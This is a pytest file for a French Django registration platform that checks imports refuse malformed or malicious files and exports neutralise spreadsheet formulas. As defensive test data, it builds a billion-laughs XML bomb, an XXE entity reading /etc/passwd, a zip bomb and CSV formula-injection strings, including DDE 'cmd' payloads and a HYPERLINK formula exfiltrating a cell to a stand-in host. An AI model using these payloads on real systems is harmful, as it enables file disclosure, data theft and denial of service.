"""Imports and exports on the unhappy paths (issue 15): any bytes uploaded give a French message or a correct
preview, never a 500; a huge or malicious file is refused quickly and in bounded memory; no cell of any CSV or
XLSX the platform writes is run as a formula by a spreadsheet, and its text is kept."""

import codecs
import csv
import io
import random
import re
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from evaluation.models import Report
from evaluation.reports import render
from qic import tables
from qic.uploads import CappedUploadHandler
from sites.models import RegistrationImport, Site
from tests.sites.factories import SiteFactory, WaveFactory, department

pytestmark = pytest.mark.every_database

HEADER = ["Nom du site", "Type", "Commune", "Département", "Code QPV", "Prénom", "Nom", "Courriel", "Siège"]
GOOD = [
    "Les Écoles",
    "Cité éducative",
    "Vénissieux",
    "69",
    "",
    "Inès",
    "Diallo",
    "ines@exemple.fr",
    "Société civile",
]
PREVIEW_OK = "Aucune erreur\u00a0: rien n’est encore enregistré"


def _text(*rows, delimiter=";") -> str:
    return "\r\n".join(delimiter.join(row) for row in rows) + "\r\n"


def _csv(*rows, encoding="utf-8", delimiter=";") -> bytes:
    return _text(*rows, delimiter=delimiter).encode(encoding)


def _xlsx(*rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _patched(parts: dict[str, bytes], level: int = 6) -> bytes:
    """A real workbook (header and one good line) whose parts are replaced by hand-made ones."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx(HEADER, GOOD)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for name in source.namelist():
            target.writestr(name, parts.pop(name, None) or source.read(name))
        for name, content in parts.items():
            target.writestr(name, content)
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
SHEET_OPEN = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_CLOSE = b"</sheetData></worksheet>"


def _sheet(rows: bytes, prolog: bytes = b"") -> bytes:
    return SHEET_OPEN.replace(b"?>", b"?>" + prolog, 1) + rows + SHEET_CLOSE


def _inline_row(line: int, values) -> bytes:
    cells = b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % value.encode() for value in values if value)
    return b'<row r="%d">%s</row>' % (line, cells)


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(2, 10)).replace(
        b"&lol1;", b"&lol;"
    )
    + b"]>"
)


def _bomb_rows(count: int, varied: bool) -> bytes:
    """A million rows: identical (a ratio no spreadsheet writes), or varied (a ratio like a real sheet's); no
    `dimension`, so that openpyxl alone would parse the whole sheet just to size it."""
    if not varied:
        return b"<row><c><v>1</v></c></row>" * count
    digits = random.Random(15).choices(b"0123", k=count)
    return b"".join(b"<row><c><v>%c</v></c></row>" % digit for digit in digits)


@pytest.fixture(scope="module")
def bombs():
    return {
        kind: _patched({SHEET: _sheet(_bomb_rows(1_000_000, varied=kind == "varied"))})
        for kind in ("identical", "varied")
    }


def _upload(client, content: bytes, name: str = "inscriptions.csv") -> tuple[int, str]:
    """Upload through the view, then open the preview: the status of the upload and the page shown."""
    response = client.post(
        reverse("sites:import"),
        {"wave": "4", "initial_status": "registering", "file": SimpleUploadedFile(name, content)},
    )
    if response.status_code != 302:
        return response.status_code, response.content.decode()
    preview = client.get(response.url)
    assert preview.status_code == 200
    return response.status_code, preview.content.decode()


@pytest.fixture
def national(client, world):
    WaveFactory(number=4, is_current=True)
    world.login(client, world.national)
    return client


# --- Any bytes: a correct preview, or a French message -----------------------------------------------------

READABLE = {
    "UTF-8 with BOM": b"\xef\xbb\xbf" + _csv(HEADER, GOOD),
    "UTF-8 without BOM": _csv(HEADER, GOOD),
    "UTF-16 LE with BOM": codecs.BOM_UTF16_LE + _csv(HEADER, GOOD, encoding="utf-16-le"),
    "UTF-16 BE with BOM": codecs.BOM_UTF16_BE + _csv(HEADER, GOOD, encoding="utf-16-be"),
    "UTF-16 LE without BOM (Excel 'Unicode text')": _csv(HEADER, GOOD, encoding="utf-16-le", delimiter="\t"),
    "UTF-32 with BOM": _csv(HEADER, GOOD, encoding="utf-32"),
    "Windows-1252": _csv(HEADER, GOOD, encoding="cp1252"),
    "commas": _csv(HEADER, GOOD, delimiter=","),
    "tabs": _csv(HEADER, GOOD, delimiter="\t"),
    "blank lines and trailing separators": _csv([], HEADER, [], [*GOOD, "", "", ""], []),
    "XLSX": _xlsx(HEADER, GOOD),
}


@pytest.mark.parametrize("case", READABLE)
def test_files_in_every_usual_encoding_and_layout_give_a_correct_preview(national, case):
    name = "inscriptions.xlsx" if case == "XLSX" else "inscriptions.csv"
    status, page = _upload(national, READABLE[case], name)
    assert status == 302
    assert PREVIEW_OK in page, page
    assert "Les Écoles" in page and "Inès Diallo" in page


def test_the_preview_names_the_real_line_of_each_row(national):
    _, page = _upload(national, _csv(HEADER, [], GOOD, [*GOOD[:7], "lea@", GOOD[8]]))
    assert "<strong>Ligne 4</strong>, Courriel\u00a0: Courriel « lea@ » mal formé." in page


_random = random.Random(15)
JUNK = bytes(_random.randrange(256) for _ in range(4000))


def _letters(count: int) -> str:
    return "".join(_random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(count))


PNG = b"\x89PNG\r\n\x1a\n" + JUNK[:200]
LONG = "x" * 200_000
REFUSED = {
    "empty file": (b"", "csv", "Le fichier est vide."),
    "only blank lines": (b"\r\n\r\n  \r\n", "csv", "Le fichier est vide."),
    "binary junk": (JUNK, "csv", "L’encodage des caractères du fichier n’est pas reconnu"),
    "a PNG named .csv": (PNG, "csv", "Ce fichier est une image PNG, pas un tableau."),
    "a PNG named .xlsx": (PNG, "xlsx", "Ce fichier est une image PNG, pas un tableau."),
    "a JPEG named .xlsx": (b"\xff\xd8\xff\xe0" + JUNK[:100], "xlsx", "Ce fichier est une image JPEG"),
    "a PDF named .csv": (
        b"%PDF-1.7\n" + JUNK[:300],
        "csv",
        "Ce fichier est un document PDF, pas un tableau.",
    ),
    "a PDF named .xlsx": (b"%PDF-1.7\n" + JUNK[:300], "xlsx", "Ce fichier est un document PDF"),
    "an old .xls named .xlsx": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + JUNK[:500],
        "xlsx",
        "ancien classeur Excel",
    ),
    "an XLSX named .csv": (_xlsx(HEADER, GOOD), "csv", "Ce fichier est un classeur Excel ou une archive ZIP"),
    "a CSV named .xlsx": (_csv(HEADER, GOOD), "xlsx", tables.EXCEL_UNREADABLE),
    "a web page": (
        b"<!DOCTYPE html><html><body><table><tr><td>x</td></tr></table>",
        "csv",
        "page web (HTML)",
    ),
    "a zip that is no workbook": (_patched({"xl/workbook.xml": b"nothing"}), "xlsx", tables.EXCEL_UNREADABLE),
    "a truncated workbook": (_xlsx(HEADER, GOOD)[:3000], "xlsx", tables.EXCEL_UNREADABLE),
    "a sheet of broken XML": (_patched({SHEET: SHEET_OPEN + b"<row><c"}), "xlsx", tables.EXCEL_UNREADABLE),
    "a NUL byte in a cell": (_csv(HEADER, [*GOOD[:5], "In\x00ès", *GOOD[6:]]), "csv", "Ligne 2 : le fichier"),
    "a control character in the XML of a sheet": (
        _patched({SHEET: _sheet(_inline_row(1, HEADER) + _inline_row(2, [*GOOD[:5], "In&#1;ès"]))}),
        "xlsx",
        tables.EXCEL_UNREADABLE,
    ),
    "a field over the CSV reader's limit": (
        _csv(HEADER, GOOD, [LONG, *GOOD[1:]]),
        "csv",
        "Ligne 3 : une valeur dépasse 1000 caractères",
    ),
    "a field longer than allowed": (
        _csv(HEADER, [GOOD[0] + "x" * 1200, *GOOD[1:]]),
        "csv",
        "Ligne 2 : une valeur dépasse 1000 caractères",
    ),
    "an XLSX field longer than allowed": (
        _xlsx(HEADER, GOOD, GOOD, [GOOD[0] + "x" * 1200, *GOOD[1:]]),
        "xlsx",
        "Ligne 4 : une valeur dépasse 1000 caractères",
    ),
    "an XLSX field of megabytes": (
        lambda: _patched({SHEET: _sheet(_inline_row(1, HEADER) + _inline_row(2, [_letters(200_000)]))}),
        "xlsx",
        "Une valeur dépasse 1000 caractères",
    ),
    "too many columns": (_csv(HEADER, GOOD + ["x"] * 150), "csv", "Ligne 2 : plus de 100 colonnes remplies"),
    "too many XLSX columns": (_xlsx(HEADER, GOOD + ["x"] * 150), "xlsx", "Ligne 2 : plus de 100 colonnes"),
    "an unterminated quote": (
        _csv(HEADER, ['"Les Écoles', *GOOD[1:]]) + LONG.encode(),
        "csv",
        "dépasse 1000",
    ),
    "a broken UTF-16 file": (codecs.BOM_UTF16_LE + b"N\x00o\x00m", "csv", "L’encodage des caractères"),
    "too many rows": (_csv(HEADER, *[GOOD] * 5001), "csv", "plus de 5000 lignes (sans celle des titres)"),
    "too many XLSX rows": (
        lambda: _xlsx(HEADER, *[GOOD] * 5001),
        "xlsx",
        "plus de 5000 lignes (sans celle des titres)",
    ),
    "millions of blank lines": (
        lambda: _csv(HEADER, GOOD) + b"\n" * 1_500_000,
        "csv",
        "lignes, vides comprises",
    ),
    "an entity expansion (billion laughs)": (
        _patched({SHEET: _sheet(_inline_row(1, ["&lol9;"]), prolog=LAUGHS)}),
        "xlsx",
        "déclarations XML (DOCTYPE, ENTITY)",
    ),
    "an external entity (XXE)": (
        _patched(
            {
                "xl/sharedStrings.xml": b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>',
            }
        ),
        "xlsx",
        "déclarations XML (DOCTYPE, ENTITY)",
    ),
    "a zip bomb": (
        lambda: _patched({"xl/media/image1.png": b"\0" * 50_000_000}, level=9),
        "xlsx",
        "bien trop volumineux",
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_odd_or_malicious_files_get_a_french_message_and_write_nothing(national, case):
    content, extension, message = REFUSED[case]
    content = content() if callable(content) else content
    status, page = _upload(national, content, f"inscriptions.{extension}")
    if content:
        assert status == 302 and "Le fichier ne peut pas être lu" in page, page
    else:
        assert status == 400  # the form refuses it next to the field
    assert message in page, page
    assert "Confirmer l’import" not in page
    assert not Site.objects.filter(wave__number=4).exists()


def test_a_file_over_the_upload_cap_is_refused_next_to_the_field(national):
    status, page = _upload(national, b"x" * (3 * 1024 * 1024))
    assert status == 400
    assert "Le fichier pèse 3\u00a0Mo\u00a0: 2 Mo au plus." in page  # the size written the French way
    assert not RegistrationImport.objects.exists()


def test_an_upload_past_the_cap_is_counted_not_kept(settings):
    """The first upload handler passes nothing more of a file past the cap to the next ones (memory,
    temporary file) and hands the form an empty file of the real size."""
    settings.QIC_UPLOAD_MAX_BYTES = 1000
    handler = CappedUploadHandler()
    handler.new_file("file", "grand.csv", "text/csv", None)
    passed = [handler.receive_data_chunk(b"x" * 400, start) for start in range(0, 4000, 400)]
    assert sum(len(chunk) for chunk in passed if chunk) == 800 and passed[-1] is None
    refused = handler.file_complete(4000)
    assert refused.size == 4000 and refused.read() == b""
    small = CappedUploadHandler()
    small.new_file("file", "petit.csv", "text/csv", None)
    assert small.receive_data_chunk(b"x" * 400, 0) == b"x" * 400 and small.file_complete(400) is None


def test_control_characters_in_the_file_name_are_dropped(national):
    status, page = _upload(national, _csv(HEADER, GOOD), "ins\x00crip\x1btions.csv")
    assert status == 302 and PREVIEW_OK in page
    assert RegistrationImport.objects.get().filename == "inscriptions.csv"


def test_a_value_longer_than_its_column_is_an_error_of_its_line_not_a_database_error(national):
    long_name = "Quartier" + " très" * 45  # 233 characters: under the file's limit, over a site's name
    status, page = _upload(national, _csv(HEADER, [long_name, *GOOD[1:]]))
    assert (
        "<strong>Ligne 2</strong>, Nom du site\u00a0: Texte trop long : 200 caractères au maximum "
        "(celui-ci en compte 233)." in page
    )
    registration = RegistrationImport.objects.get()
    national.post(registration.get_absolute_url())  # a forged confirmation
    assert not Site.objects.filter(wave__number=4).exists()


# --- Large and malicious workbooks: refused quickly, in bounded memory -------------------------------------


@pytest.mark.parametrize("kind", ["identical", "varied"])
def test_a_million_row_workbook_is_refused_in_a_moment_and_bounded_memory(bombs, kind):
    content = bombs[kind]
    assert len(content) < 2 * 1024 * 1024  # it passes the upload cap: only its content can refuse it
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(tables.UnreadableTable) as refused:
            tables.read_table(content, "bombe.xlsx", tables.Limits(rows=5000))
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 2, elapsed
    assert peak < 50 * 1024 * 1024, peak
    assert "bien trop volumineux" in str(refused.value) or "lignes, vides comprises" in str(refused.value)


def test_a_million_row_workbook_uploaded_gets_a_french_message_at_once(national, bombs):
    started = time.perf_counter()
    status, page = _upload(national, bombs["varied"], "inscriptions.xlsx")
    assert time.perf_counter() - started < 3
    assert status == 302 and "Le fichier compte plus de 10010 lignes, vides comprises" in page


def test_a_workbook_just_over_the_row_limit_stops_reading_at_the_limit(monkeypatch):
    """Rows are checked as they are read: with 8000 filled rows, reading stops after the 5001st."""
    content = _patched({SHEET: _sheet(b"".join(_inline_row(line, ["x"]) for line in range(1, 8001)))})
    seen = []
    original = tables._collect

    def counting(records, limits):
        def spy():
            for record in records:
                seen.append(record[0])
                yield record

        return original(spy(), limits)

    monkeypatch.setattr(tables, "_collect", counting)
    with pytest.raises(tables.UnreadableTable, match="plus de 5000 lignes"):
        tables.read_table(content, "a.xlsx", tables.Limits(rows=5000))
    assert len(seen) == 5002


# --- Exports: no cell a spreadsheet runs, the text kept -----------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(A1)",
    " =1+1",
]
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def _runs(text) -> bool:
    """What a spreadsheet would take for a formula (independent of the code under test)."""
    if not isinstance(text, str):
        return False
    stripped = text.lstrip(" ")
    return stripped[:1] in set("=+-@\t\r\n＝＋－＠") and not NUMBER.fullmatch(stripped)


@pytest.fixture
def planted(world):
    """Sites whose name and communes carry formulas, as anyone with a site page may type them."""
    return [
        SiteFactory(name=payload, communes=f"Ville{i}, {payload}", department=department("42"))
        for i, payload in enumerate(PAYLOADS)
    ]


def _csv_cells(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.lstrip("\ufeff"), newline=""), delimiter=";"))


def _assert_csv_inert(rows: list[list[str]], *, column: int = 0):
    assert not [cell for row in rows for cell in row if _runs(cell)]
    names = {row[column] for row in rows}
    for payload in PAYLOADS:
        assert "'" + payload in names, payload


def _assert_xlsx_inert(workbook, sheet: str, *, column: int = 0):
    cells = [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _runs(c.value) and c.data_type != "s"]
    names = {row[column] for row in workbook[sheet].iter_rows(values_only=True)}
    for payload in PAYLOADS:
        assert payload.replace("\r", "\n") in names, payload  # as typed (XML reads CR as LF), as text


def test_dashboard_csv_export_neutralises_formulas_and_keeps_numbers(client, world, planted):
    Site.objects.filter(pk=planted[0].pk).update(coaching_hours_budget="-3.5")
    world.login(client, world.national)
    response = client.get(reverse("sites:dashboard_export", kwargs={"fmt": "csv"}))
    rows = _csv_cells(response.content.decode())
    _assert_csv_inert(rows)
    communes = rows[0].index("Commune(s)")
    assert {f"Ville{i}, {p}" for i, p in enumerate(PAYLOADS)} <= {row[communes] for row in rows}
    budget = rows[0].index("Budget d’accompagnement (heures)")
    assert "-3,5" in [row[budget] for row in rows]  # a number (decimal comma), not made text


def test_dashboard_xlsx_export_writes_formulas_as_text_and_numbers_as_numbers(client, world, planted):
    Site.objects.filter(pk=planted[0].pk).update(coaching_hours_budget="-3.5")
    world.login(client, world.national)
    response = client.get(reverse("sites:dashboard_export", kwargs={"fmt": "xlsx"}))
    workbook = load_workbook(io.BytesIO(response.content))
    _assert_xlsx_inert(workbook, "Sites")
    header = [cell.value for cell in workbook["Sites"][1]]
    budgets = [row[header.index("Budget d’accompagnement (heures)")] for row in workbook["Sites"].iter_rows()]
    assert any(cell.value == -3.5 and cell.data_type == "n" for cell in budgets)


@pytest.fixture
def no_weasyprint(monkeypatch, settings, tmp_path):
    """The PDFs are not what is tested here: a stand-in keeps the reports fast."""
    settings.MEDIA_ROOT = tmp_path / "media"
    monkeypatch.setattr(render, "report_pdf", lambda data, data_date: b"%PDF-1.7\n%%EOF\n")


def test_national_roll_up_xlsx_writes_site_names_as_text(
    client, world, planted, no_weasyprint, django_capture_on_commit_callbacks
):
    world.login(client, world.steering)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:request"), {"kind": "national"})
    report = Report.objects.get()
    download = client.get(reverse("reports:download", kwargs={"report_id": report.pk, "fmt": "xlsx"}))
    workbook = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    _assert_xlsx_inert(workbook, "Sites")


def test_batch_archive_summary_csv_neutralises_site_names(
    client, world, planted, no_weasyprint, django_capture_on_commit_callbacks
):
    world.login(client, world.national)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:request"), {"kind": "batch"})
    batch = Report.objects.get(kind="batch")
    download = client.get(reverse("reports:download", kwargs={"report_id": batch.pk, "fmt": "zip"}))
    with zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content))) as archive:
        rows = _csv_cells(archive.read("sommaire.csv").decode("utf-8"))
    _assert_csv_inert(rows)
    assert rows[0] == ["site", "vague", "état"] and len(rows) == 1 + len(planted) + 2


def test_the_import_template_is_written_by_the_same_safe_writer(national):
    rows = _csv_cells(national.get(reverse("sites:import_template")).content.decode("utf-8"))
    assert rows[0][:4] == ["Nom du site", "Type", "Commune", "Département"]
    assert not [cell for row in rows for cell in row if _runs(cell)]
